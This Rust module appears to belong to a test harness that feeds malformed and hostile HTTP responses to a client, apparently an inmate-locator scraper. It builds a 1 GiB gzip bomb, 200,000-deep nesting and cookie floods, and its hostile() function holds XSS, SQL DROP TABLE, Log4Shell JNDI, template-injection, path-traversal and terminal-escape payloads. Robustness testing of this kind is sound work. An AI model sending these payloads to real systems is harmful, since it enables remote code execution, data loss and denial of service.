//! What is done to an honest answer on its way: bytes changed, cut, packed, and values that hurt.

use super::pages::{HTML, JSON};
use super::routes::Form;
use super::site::{Resident, View};
use super::wire::{Act, Answer};
use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress, write::GzEncoder};
use std::io::Write;
use std::sync::LazyLock;

pub fn send(bytes: Vec<u8>) -> Act {
    Act::Send(bytes.into())
}

pub fn with_body(honest: &Answer, body: impl Into<Bytes>) -> Answer {
    Answer { body: body.into(), ..honest.clone() }
}

pub fn coded(honest: &Answer, coding: &str, body: impl Into<Bytes>) -> Vec<Act> {
    with_body(honest, body).with("Content-Encoding", coding).whole()
}

pub fn early_hints() -> Act {
    send("HTTP/1.1 103 Early Hints\r\nLink: </style.css>; rel=preload\r\n\r\n".repeat(100).into_bytes())
}

pub fn half(honest: &Answer, then: Act) -> Vec<Act> {
    let body = &honest.body;
    vec![send(honest.head_for(body.len())), send(body[..body.len() / 2].to_vec()), then]
}

pub fn cookies(honest: Answer) -> Answer {
    let many = (0..300).fold(honest, |a, i| a.with("Set-Cookie", format!("c{i}=1; Path=/")));
    many.with("Set-Cookie", format!("big={}; Domain=elsewhere.example", "x".repeat(1024 * 1024)))
}

/// Values that hurt a careless page, terminal, table or log.
pub fn hostile(resident: Resident) -> Resident {
    let place = "<script>alert(1)</script><img src=x onerror=alert(2)></textarea>\u{202e}RETNEC\u{200b}\
        {{7*7}} ${jndi:ldap://x.example/a} %n ../../x '; DROP TABLE checks; -- \u{1b}[2J=1+1"
        .to_owned();
    let marks = "\u{301}".repeat(10_000);
    Resident { view: View::Listed { place: format!("{place} E{marks}") }, ..resident }
}

pub fn deep(form: Form) -> Answer {
    const DEPTH: usize = 200_000;
    if matches!(form, Form::Bop | Form::App(_)) {
        return Answer::new(
            200,
            JSON,
            format!("{{\"Captcha\":false,\"InmateLocator\":{}", "[".repeat(DEPTH)),
        );
    }
    Answer::new(200, HTML, format!("<!DOCTYPE html><html lang=\"en\"><body>{}", "<div>".repeat(DEPTH)))
}

pub fn gzip(body: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(body).expect("a vector takes every byte");
    encoder.finish().expect("a vector takes every byte")
}

pub static BOMB: LazyLock<Bytes> = LazyLock::new(|| gzip_bomb(1024).into());

/// So many MiB of zeros as one gzip member (RFC 1952): one compressed MiB, again and again, with the
/// checksum that the whole has.
fn gzip_bomb(mebibytes: u32) -> Vec<u8> {
    let zeros = vec![0; 1024 * 1024];
    let mut part = Vec::with_capacity(16 * 1024);
    Compress::new(Compression::best(), false)
        .compress_vec(&zeros, &mut part, FlushCompress::Full)
        .expect("zeros compress");
    let mut one = Crc::new();
    one.update(&zeros);
    let mut all = Crc::new();
    (0..mebibytes).for_each(|_| all.combine(&one));
    let mut file = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    (0..mebibytes).for_each(|_| file.extend(&part));
    // An empty last block.
    file.extend([3, 0]);
    file.extend(all.sum().to_le_bytes());
    file.extend(mebibytes.wrapping_mul(1024 * 1024).to_le_bytes());
    file
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn the_bomb_is_one_whole_member_and_a_mebibyte_or_so_for_a_gibibyte() {
        let mut out = Vec::new();
        flate2::read::GzDecoder::new(gzip_bomb(3).as_slice()).read_to_end(&mut out).unwrap();
        assert_eq!(out.len(), 3 * 1024 * 1024);
        assert!(out.iter().all(|b| *b == 0));
        assert!(BOMB.len() < 1_300_000, "{}", BOMB.len());
    }
}
